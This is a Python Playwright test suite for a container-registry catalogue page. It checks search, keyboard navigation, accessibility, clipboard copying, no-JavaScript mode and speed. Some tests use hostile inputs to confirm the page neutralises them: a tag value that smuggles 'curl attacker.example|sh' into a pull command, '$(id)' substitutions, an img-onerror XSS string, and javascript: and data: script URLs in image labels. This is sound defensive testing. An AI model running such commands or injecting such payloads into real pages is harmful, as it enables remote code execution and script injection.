"""The page in Chromium, served by a pod: what people see, by mouse, by keyboard, on a phone and without JavaScript."""

import gzip
import re
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Response, Route, expect

from lambda_fn.job.catalogue import shards
from lambda_fn.settings import Page, Settings
from testbed.sandbox.browser import NARROW, WIDE, Chromium, Tab, chromium, texts
from testbed.sandbox.pod import Pod
from testbed.sandbox.world import World
from tests.fakes.catalogue import WRITTEN_AT, Catalogue
from tests.proxy.conftest import CONTACT

HOSTILE = "<img src=x onerror=\"alert('name')\">&amp;{{7*7}}"
LONG_TASK_MS = 200
"""Of one task on a machine that runs other suites beside; the spec calls 50 ms long."""

Opens = Callable[..., AbstractContextManager[Tab]]


@pytest.fixture(scope="module")
def settings(settings: Settings) -> Settings:
    return settings.model_copy(update={"page": Page(catalogue=True, findings=True)})


@pytest.fixture(scope="module")
def browser(world: World) -> Iterator[Chromium]:
    with chromium(f"http://{world.domain}:8080", address="127.0.0.1") as found:
        yield found


@pytest.fixture
def opens(browser: Chromium) -> Opens:
    return browser.tab


@pytest.fixture(autouse=True)
def catalogue(serving: Pod) -> Catalogue:
    made = Catalogue(repositories=300)
    app = [made.image("team/app", f"1.{minor}", 4 - minor) for minor in (4, 3, 2)]
    app[0] |= {"tags": ["1.4", "stable"], "signed": True, "findings": {"CRITICAL": 1, "LOW": 3}}
    app[1] |= {"signed": False, "findings": {}, "pulled_at": None}
    made.add("team/app", *app)
    made.add("team/charts/web", made.image("team/charts/web", "2.3.1_build.7"))
    serving.mount("catalogue", made.files())
    return made


def commands(of: Tab, view: str) -> list[str]:
    return texts(of.page, f"{view} .commands code")


def of_every_kind(world: World, repository: str, tag: str, version: str) -> list[str]:
    """The commands for what may be an image, a chart or an artifact."""
    name = f"{world.domain}/{repository}"
    return [
        f"docker pull {name}:{tag}",
        f"nerdctl pull {name}:{tag}",
        f"ctr images pull {name}:{tag}",
        f"helm pull oci://{name} --version {version}",
        f"oras pull {name}:{tag}",
        f"FROM {name}:{tag}",
        f"image: {name}:{tag}",
    ]


def path(of: Tab) -> str:
    return of.page.url.removeprefix(of.origin)


def test_the_first_view_says_how_to_pull_and_what_there_is(opens: Opens, world: World) -> None:
    with opens() as found:
        page = found.open()
        assert f"docker pull {world.domain}/REPOSITORY:TAG" in commands(found, "#home")
        expect(page.locator("#found")).to_contain_text("302 repositories, last updated ")
        expect(page.locator("#health")).to_have_text("Serving")
        expect(page.locator("#notice")).to_be_hidden()
        expect(page.locator("footer")).to_contain_text(CONTACT)
        assert page.locator("#repositories li").count() == 40


def test_the_first_view_loads_less_than_100_kb_beside_the_catalogue(opens: Opens) -> None:
    with opens() as found:
        answers: list[Response] = []
        found.page.on("response", lambda answer: answers.append(answer))  # noqa: PLW0108 - no builtin function
        found.open()
        sizes = [len(answer.body()) for answer in answers if "/catalogue/" not in answer.url]
        assert len(sizes) > 8
        assert sum(sizes) < 100_000


def test_search_finds_as_one_types_and_the_best_match_is_first(opens: Opens) -> None:
    with opens() as found:
        page = found.open()
        page.locator("#search").press_sequentially("app")
        expect(page.locator("#repositories b").first).to_have_text("team/app")
        page.locator("#search").fill("orders wORK")
        expect(page.locator("#found")).to_have_text("10 repositories found")
        assert set(texts(page, "#repositories li:first-child mark")) == {"orders", "work"}
        for query in ("no-such-name", ".*("):
            page.locator("#search").fill(query)
            expect(page.locator("#found")).to_contain_text("Not in the catalogue, last updated ")


@pytest.mark.parametrize(
    ("seconds", "age"),
    [(0, "just now"), (59, "just now"), (200, "3 minutes ago"), (100_000, "yesterday"), (-90, "just now")],
)
def test_the_catalogue_says_when_it_was_updated_also_to_a_clock_that_is_behind(
    opens: Opens, seconds: int, age: str
) -> None:
    with opens() as found:
        found.page.clock.set_fixed_time(WRITTEN_AT + timedelta(seconds=seconds))
        page = found.open()
        expect(page.locator("#found")).to_have_text(f"302 repositories, last updated {age}")
        page.locator("#search").fill("no-such-name")
        expect(page.locator("#found")).to_have_text(f"Not in the catalogue, last updated {age}")
        found.open("/?repository=no-such-name")
        expect(page.locator("#repository .lead")).to_have_text(
            f"This repository is not in the catalogue, last updated {age}. If the registry serves it, it can be pulled."
        )


def test_the_address_follows_however_much_is_typed(opens: Opens) -> None:
    with opens() as found:
        page = found.open()
        for _ in range(150):
            page.locator("#search").press_sequentially("xy")
            page.keyboard.press("Backspace")
            page.keyboard.press("Backspace")
        page.locator("#search").fill("charts")
        expect(page.locator("#found")).to_have_text("1 repository found")
        expect(page).to_have_url(re.compile(r"/\?q=charts$"))


def test_what_could_not_be_read_is_read_again(opens: Opens, serving: Pod, catalogue: Catalogue) -> None:
    files = catalogue.files()
    serving.mount("catalogue", {"index.json.gz": files["index.json.gz"]})
    with opens() as found:
        page = found.open("/?repository=team/app")
        expect(page.locator("#repository")).to_contain_text("does not list the 4 tags")
        serving.mount("catalogue", files)
        page.get_by_role("link", name="All repositories").click()
        page.go_back()
        expect(page.locator(".tags li")).to_have_count(4)


@pytest.mark.parametrize("status", [429, 502, None], ids=["a limit", "a failure", "no network"])
def test_what_cannot_be_read_is_not_called_missing_and_its_commands_are_there(
    opens: Opens, world: World, status: int | None
) -> None:
    def fail(route: Route) -> None:
        if status:
            route.fulfill(status=status)
        else:
            route.abort()

    with opens() as found:
        found.page.route("**/-/catalogue/index.json", fail)
        page = found.open()
        expect(page.locator("#found")).to_have_text("The catalogue cannot be read. Try again in a minute.")
        page = found.open("/?repository=team/app&tag=1.3")
        expect(page.locator("#repository .lead")).to_have_text("The catalogue cannot be read. Try again in a minute.")
        assert commands(found, "#repository") == of_every_kind(world, "team/app", "1.3", "1.3")
        page = found.open("/?repository=team/app")
        assert commands(found, "#repository") == of_every_kind(world, "team/app", "TAG", "VERSION")
        found.page.unroute("**/-/catalogue/index.json")
        found.page.route(re.compile("/-/catalogue/[0-9]+[.]json"), fail)
        page = found.open("/?repository=team/app&tag=1.3")
        expect(page.locator("#repository .lead")).to_contain_text("tags of this repository cannot be read")
        assert commands(found, "#repository") == of_every_kind(world, "team/app", "1.3", "1.3")


def test_a_catalogue_that_may_lack_a_repository_says_so(
    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
) -> None:
    address, expected = "/?repository=team/new&tag=2", of_every_kind(world, "team/new", "2", "2")
    serving.mount("catalogue", {})
    with opens() as found:
        expect(found.open(address).locator("#repository .lead")).to_contain_text("The catalogue is not there yet")
        assert commands(found, "#repository") == expected
        catalogue.complete = False
        serving.mount("catalogue", catalogue.files())
        expect(found.open(address).locator("#repository .lead")).to_contain_text(
            "the first look into ECR is not complete"
        )
        assert commands(found, "#repository") == expected


def test_tags_that_the_shard_does_not_have_are_not_denied(
    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
) -> None:
    earlier = catalogue.files()
    catalogue.add("team/new", catalogue.image("team/new", "2.0"))
    catalogue.add("team/empty")
    late = earlier | {"index.json.gz": catalogue.files()["index.json.gz"]}
    names_alone = catalogue.files(first_extent=len(shards.EXTENTS) - 1)
    for files in (late, names_alone):
        serving.mount("catalogue", files)
        with opens() as found:
            page = found.open("/?repository=team/new")
            expect(page.locator("#repository .lead")).to_contain_text("does not list the 2 tags of this repository now")
            assert commands(found, "#repository") == of_every_kind(world, "team/new", "TAG", "VERSION")
            page = found.open("/?repository=team/new&tag=2.0")
            expect(page.locator("#repository")).not_to_contain_text("not among the newest")
            assert commands(found, "#repository") == of_every_kind(world, "team/new", "2.0", "2.0")
            page = found.open("/?repository=team/empty")
            expect(page.locator("#repository")).to_contain_text("No image of this repository has a tag.")


def test_more_rows_come_on_demand(opens: Opens) -> None:
    with opens() as found:
        page = found.open()
        page.locator("#more").click()
        assert page.locator("#repositories li").count() == 80
        expect(page.locator("#repositories li:nth-child(41) a")).to_be_focused()


def test_a_repository_has_its_commands_tags_and_facts(opens: Opens, world: World, catalogue: Catalogue) -> None:
    image = catalogue.images["team/app"][0]
    with opens() as found:
        page = found.open()
        page.locator("#search").fill("team/app")
        page.locator("#repositories a").first.click()
        expect(page.locator("#repository h1")).to_have_text("team/app")
        assert path(found) == "/?repository=team%2Fapp"
        name = f"{world.domain}/team/app"
        assert commands(found, "#repository") == [
            f"docker pull {name}:1.4",
            f"nerdctl pull {name}:1.4",
            f"ctr images pull {name}:1.4",
            f"FROM {name}:1.4",
            f"image: {name}:1.4",
            f"{name}@{image['digest']}",
        ]
        assert texts(page, ".badges li") == ["Container image", "Signed", "1 critical", "3 low"]
        assert texts(page, ".tags b") == ["1.4", "stable", "1.3", "1.2"]
        facts = texts(page, ".facts > div")
        assert facts[0].startswith(f"Digest {image['digest']}")
        assert "Other tags stable" in facts
        assert "Media type application/vnd.oci.image.index.v1+json" in facts
        assert any(re.fullmatch(r"Pushed (?:yesterday|.+ ago)", fact) for fact in facts)
        assert [row.split(" ")[0] for row in texts(page, "tbody tr")] == ["linux/amd64", "linux/arm64"]
        source = page.get_by_role("link", name="https://git.example.net/team/app")
        assert (source.get_attribute("rel"), source.get_attribute("href")) == (
            "noreferrer",
            "https://git.example.net/team/app",
        )
        page.locator(".tags a", has_text="1.3").click()
        expect(page.locator(".badges")).to_contain_text("Not signed")
        expect(page.locator(".badges")).to_contain_text("No findings")
        expect(page.locator(".facts").first).to_contain_text("not known")


def test_a_chart_is_pulled_by_helm_and_its_version_has_a_plus(opens: Opens, world: World) -> None:
    with opens() as found:
        found.open("/?repository=team/charts/web")
        assert commands(found, "#repository") == [
            f"helm pull oci://{world.domain}/team/charts/web --version 2.3.1+build.7",
            f"oras pull {world.domain}/team/charts/web:2.3.1_build.7",
        ]


def test_an_older_tag_is_of_the_kinds_of_the_newest_ones(
    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
) -> None:
    catalogue.add("team/mixed", *(catalogue.image("team/mixed", kind, kind=kind) for kind in ("chart", "image")))
    serving.mount("catalogue", catalogue.files())
    with opens() as found:
        page = found.open("/?repository=team/charts/web&tag=1.0.0_build.1")
        expect(page.locator("#repository")).to_contain_text("not among the newest")
        assert commands(found, "#repository") == [
            f"helm pull oci://{world.domain}/team/charts/web --version 1.0.0+build.1",
            f"oras pull {world.domain}/team/charts/web:1.0.0_build.1",
        ]
        found.open("/?repository=team/mixed&tag=0.1")
        assert commands(found, "#repository") == of_every_kind(world, "team/mixed", "0.1", "0.1")


@pytest.mark.parametrize("tag", ["1.4;curl attacker.example|sh", "$(id)", "-1", "1.4 --privileged", "x" * 129])
def test_a_link_cannot_add_to_a_command(opens: Opens, tag: str) -> None:
    with opens() as found:
        for name in ("team/app", "team/app`id`"):
            page = found.open(f"/?{urlencode({'repository': name, 'tag': tag})}")
            expect(page.locator("#repository h1")).to_have_text(name)
            assert commands(found, "#repository") == []
        found.page.route("**/-/catalogue/index.json", lambda route: route.abort())
        page = found.open(f"/?{urlencode({'repository': 'team/app', 'tag': tag})}")
        expect(page.locator("#repository")).to_contain_text("not a valid name")
        assert commands(found, "#repository") == []


def test_a_deep_link_shows_its_tag_and_the_back_button_leads_back(opens: Opens, world: World) -> None:
    with opens() as found:
        page = found.open("/?repository=team/app&tag=1.3")
        expect(page.locator(".tags [aria-current]")).to_contain_text("1.3")
        expect(page).to_have_title(f"team/app:1.3 · {world.domain}")
        assert f"docker pull {world.domain}/team/app:1.3" in commands(found, "#repository")
        page.get_by_role("link", name="All repositories").click()
        page.locator("#search").fill("charts")
        page.locator("#repositories a").first.click()
        expect(page.locator("#repository h1")).to_have_text("team/charts/web")
        page.go_back()
        expect(page.locator("#search")).to_have_value("charts")
        expect(page.locator("#found")).to_have_text("1 repository found")
        page.go_back()
        expect(page.locator("#repository h1")).to_have_text("team/app")
        page.go_forward()
        expect(page.locator("#home")).to_be_visible()
        page.reload()
        expect(page.locator("#search")).to_have_value("charts")


def test_a_link_to_what_the_catalogue_does_not_have_says_so_and_shows_how_to_pull_it(
    opens: Opens, world: World
) -> None:
    with opens() as found:
        for name in ("docker-hub/library/nginx", "constructor"):
            page = found.open(f"/?repository={name}&tag=1.27")
            expect(page.locator("#repository .lead")).to_have_text(
                re.compile("^This repository is not in the catalogue, last updated .+[.] If the registry serves it, ")
            )
            assert commands(found, "#repository") == of_every_kind(world, name, "1.27", "1.27")
        page = found.open("/?repository=team/app&tag=0.1")
        expect(page.locator("#repository")).to_contain_text("not among the newest")
        assert f"docker pull {world.domain}/team/app:0.1" in commands(found, "#repository")


def test_everything_is_reached_by_keyboard(opens: Opens) -> None:
    with opens() as found:
        page = found.open()
        for _ in range(3):
            page.keyboard.press("Tab")
        expect(page.locator("#search")).to_be_focused()
        page.keyboard.type("team/")
        page.keyboard.press("ArrowDown")
        page.keyboard.press("ArrowDown")
        expect(page.locator("#repositories li:nth-child(2) a")).to_be_focused()
        page.keyboard.press("ArrowUp")
        page.keyboard.press("Enter")
        expect(page.locator("#repository h1")).to_have_text("team/app")
        expect(page.locator("#repository h1")).to_be_focused()
        for _ in range(3):
            page.keyboard.press("ArrowDown")
        page.keyboard.press("Enter")
        expect(page.locator(".tags [aria-current]")).to_contain_text("1.3")
        page.keyboard.press("Escape")
        expect(page.locator("#search")).to_be_focused()
        page.keyboard.type("charts")
        page.keyboard.press("Enter")
        expect(page.locator("#repository h1")).to_have_text("team/charts/web")
        page.keyboard.press("Escape")
        expect(page.locator("#search")).to_be_focused()
        page.keyboard.type("x")
        page.keyboard.press("Escape")
        expect(page.locator("#search")).to_have_value("")


def test_no_character_is_a_shortcut(opens: Opens) -> None:
    """WCAG 2.1.4: speech input types characters by chance."""
    with opens() as found:
        for address in ("/", "/?repository=team/app"):
            page = found.open(address)
            before = page.evaluate("document.activeElement.id")
            page.keyboard.type("/?abcdefghijklmnopqrstuvwxyz0123456789.,-#")
            assert (page.evaluate("document.activeElement.id"), path(found)) == (before, address)
            assert page.locator("#search").input_value() == ""


@pytest.mark.parametrize("secure", [True, False])
def test_a_button_copies_its_command(opens: Opens, world: World, secure: bool) -> None:  # noqa: FBT001 - a case
    copied = f"docker pull {world.domain}/team/app:1.4"
    permissions = ["clipboard-read", "clipboard-write"] if secure else []
    with opens(permissions=permissions) as found:
        if not secure:
            found.page.add_init_script("Object.defineProperty(navigator, 'clipboard', { value: undefined });")
        page = found.open("/?repository=team/app")
        button = page.get_by_role("button", name="Copy: Docker, Podman")
        button.focus()
        page.keyboard.press("Enter")
        done = page.get_by_role("button", name="Copied: Docker, Podman")
        expect(done).to_have_text("Copied")
        expect(done).to_be_focused()
        expect(page.get_by_role("status").filter(has_text="Copied: Docker, Podman")).to_have_count(1)
        expect(button).to_have_text("Copy")
        expect(page.locator("#copied")).to_be_empty()
        page.keyboard.press("Escape")
        page.keyboard.press("Control+V")
        expect(page.locator("#search")).to_have_value(copied)


def test_a_copy_that_fails_is_announced_and_the_name_of_its_button_has_its_text(opens: Opens) -> None:
    with opens() as found:
        found.page.add_init_script("""
            Object.defineProperty(navigator, 'clipboard', { value: undefined });
            document.execCommand = () => false;
        """)
        page = found.open("/?repository=team/app")
        page.get_by_role("button", name="Copy: digest").click()
        expect(page.get_by_role("button", name="Failed: digest")).to_have_text("Failed")
        expect(page.get_by_role("status").filter(has_text="Failed: digest. Select the text")).to_have_count(1)
        for button in page.locator("button.copy").all():
            assert str(button.get_attribute("aria-label")).startswith(button.inner_text())


def test_a_limit_of_the_page_is_not_called_a_registry_that_is_not_reachable(opens: Opens) -> None:
    """What is known of the registry stays; else the page says why it does not know."""
    limited = {"status": 429}
    with opens() as found:
        page, status = found.page, "**/-/status.json"

        def ask_again() -> None:
            with page.expect_response(status):
                page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
            found.settle()

        page.route(status, lambda route: route.fulfill(**limited))
        found.open()
        expect(page.locator("#health")).to_have_text("Asked too often")
        expect(page.locator("#notice")).to_contain_text("Your network asks this registry too often.")
        assert found.accessibility() == []
        page.unroute(status)
        ask_again()
        expect(page.locator("#health")).to_have_text("Serving")
        expect(page.locator("#notice")).to_be_hidden()
        page.route(status, lambda route: route.fulfill(**limited))
        ask_again()
        expect(page.locator("#health")).to_have_text("Serving")
        expect(page.locator("#notice")).to_be_hidden()
        page.unroute(status)
        page.route(status, lambda route: route.fulfill(status=502))
        ask_again()
        expect(page.locator("#health")).to_have_text("Not reachable")
        page.unroute(status)
        page.route(status, lambda route: route.fulfill(**limited))
        ask_again()
        expect(page.locator("#health")).to_have_text("Asked too often")


def test_a_phone_has_one_column_and_nothing_is_cut_off(opens: Opens) -> None:
    with opens(size=NARROW) as found:
        for address in ("/", "/?repository=team/app"):
            page = found.open(address)
            assert page.evaluate("document.documentElement.scrollWidth") == NARROW[0]
        assert found.open().locator("#repositories li").count() == 10


def test_text_may_be_four_times_as_large(opens: Opens) -> None:
    """As WCAG 1.4.10 has it: 1280 pixels at 400 % are 320."""
    with opens(size=(320, 256)) as found:
        for address in ("/", "/?repository=team/app"):
            assert found.open(address).evaluate("document.documentElement.scrollWidth") == 320


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_follows_the_colours_of_the_system(opens: Opens, scheme: str) -> None:
    with opens(color_scheme=scheme) as found:
        red = found.open().evaluate("getComputedStyle(document.body).backgroundColor.match(/[0-9]+/)[0]")
        assert (int(red) > 128) == (scheme == "light")


@pytest.mark.parametrize(
    ("scheme", "size"), [("light", WIDE), ("dark", WIDE), ("light", NARROW)], ids=["light", "dark", "narrow"]
)
def test_axe_finds_nothing_in_any_state(opens: Opens, serving: Pod, scheme: str, size: tuple[int, int]) -> None:
    credential = (serving.folder / "credential" / ".dockerconfigjson").read_bytes()
    with opens(color_scheme=scheme, size=size) as found:
        for address in (
            "/", "/?q=orders", "/?q=no-such-name", "/?repository=team/app", "/?repository=team/app&tag=1.3",
            "/?repository=team/charts/web", "/?repository=team/none",
        ):  # fmt: skip
            found.open(address)
            assert found.accessibility() == [], address
        found.page.locator("#search").focus()
        found.page.keyboard.press("ArrowDown")
        assert found.accessibility() == [], "focus in the list"
        found.page.route("**/-/catalogue/index.json", lambda route: route.abort())
        for address in ("/", "/?repository=team/app", "/?repository=team/app&tag=-1"):
            found.open(address)
            assert found.accessibility() == [], f"no catalogue, {address}"
        found.page.unroute("**/-/catalogue/index.json")
        try:
            serving.mount("credential", {})
            found.open()
            expect(found.page.locator("#health")).to_have_text("Cached only")
            expect(found.page.locator("#notice")).to_contain_text("the credential for ECR has expired or is missing")
            assert found.accessibility() == [], "cached only"
        finally:
            serving.mount("credential", {".dockerconfigjson": credential})


def test_without_javascript_the_commands_are_there(opens: Opens, world: World) -> None:
    with opens(scripts=False) as found:
        page = found.open()
        assert page.locator("#health").inner_text() == "", "no script has run"
        expect(page.get_by_text(f"docker pull {world.domain}/REPOSITORY:TAG")).to_be_visible()
        expect(page.locator("noscript p")).to_be_visible()
        expect(page.locator("noscript code")).to_have_text(f"curl https://{world.domain}/v2/REPOSITORY/tags/list")
        expect(page.locator("#search")).to_be_hidden()
        assert page.get_by_role("button").count() == 0


def test_hostile_names_tags_and_labels_are_text(opens: Opens, serving: Pod, catalogue: Catalogue) -> None:
    image = catalogue.image("evil", HOSTILE)
    image["labels"] = {
        HOSTILE: HOSTILE,
        "org.opencontainers.image.source": "javascript:alert('label')",
        "org.opencontainers.image.url": "https://user:pass@attacker.example/",
        "org.opencontainers.image.documentation": "data:text/html,<script>alert(1)</script>",
        "org.opencontainers.image.vendor": "https://ok.example/?a=\"><script>alert('x')</script>",
    }
    image |= {"media_type": HOSTILE, "findings": {HOSTILE: 1}, "pushed_at": HOSTILE, "pulled_at": HOSTILE}
    image["platforms"] = [{"platform": HOSTILE, "digest": HOSTILE, "size_bytes": HOSTILE}]
    catalogue.add(HOSTILE, image)
    serving.mount("catalogue", catalogue.files())
    with opens() as found:
        page = found.open("/?q=onerror")
        expect(page.locator("#repositories b")).to_have_text(HOSTILE)
        page.locator("#repositories a").click()
        expect(page.locator("#repository h1")).to_have_text(HOSTILE)
        expect(page.locator(".tags b").first).to_have_text(HOSTILE)
        assert page.locator("img").count() == 1, "the icon"
        links = page.locator(".facts a").evaluate_all("links => links.map(link => link.protocol + link.host)")
        assert links == ["https:ok.example"]
        assert page.locator("script").count() == 1


@pytest.mark.parametrize(
    "content",
    [
        b"", b"{", b"[]", b"null", b'{"schema":2}', b'{"schema":1}', b'{"schema":1,"repositories":[1,{"name":1}]}',
        b'{"schema":1,"repositories":[{"name":"x","shard":"0"}],"written_at":{}}',
    ],
)  # fmt: skip
def test_an_index_that_is_not_one_leaves_the_commands(opens: Opens, serving: Pod, world: World, content: bytes) -> None:
    serving.mount("catalogue", {"index.json.gz": gzip.compress(content)})
    with opens() as found:
        page = found.open()
        expect(page.locator("#found")).not_to_be_empty()
        assert f"docker pull {world.domain}/REPOSITORY:TAG" in commands(found, "#home")


def test_a_catalogue_that_is_not_written_or_not_complete_says_so(
    opens: Opens, serving: Pod, catalogue: Catalogue
) -> None:
    serving.mount("catalogue", {})
    with opens() as found:
        expect(found.open().locator("#found")).to_contain_text("not there yet")
    catalogue.complete = False
    serving.mount("catalogue", catalogue.files())
    with opens() as found:
        expect(found.open().locator("#found")).to_contain_text("not complete yet")


def test_5000_repositories_do_not_make_the_page_slow(opens: Opens, serving: Pod) -> None:
    large = Catalogue(repositories=5000, tags=20)
    serving.mount("catalogue", large.files(first_extent=3))
    name = sorted(large.images)[2500]
    with opens() as found:
        page = found.open()
        expect(page.locator("#found")).to_contain_text("5,000 repositories")
        assert page.locator("#repositories li").count() == 40
        page.locator("#search").press_sequentially(name)
        expect(page.locator("#repositories b").first).to_have_text(name)
        page.keyboard.press("Enter")
        expect(page.locator("#repository h1")).to_have_text(name)
        expect(page.locator(".tags li")).to_have_count(20)
        tasks: list[int] = page.evaluate("longTasks")
        print(f"long tasks: {tasks} ms")  # noqa: T201 - the measurement, which `pytest -s` shows
        assert max(tasks, default=0) < LONG_TASK_MS
        page.evaluate("setTimeout(() => { for (const end = Date.now() + 250; Date.now() < end;); })")
        page.wait_for_function(f"longTasks.some(task => task >= {LONG_TASK_MS})")
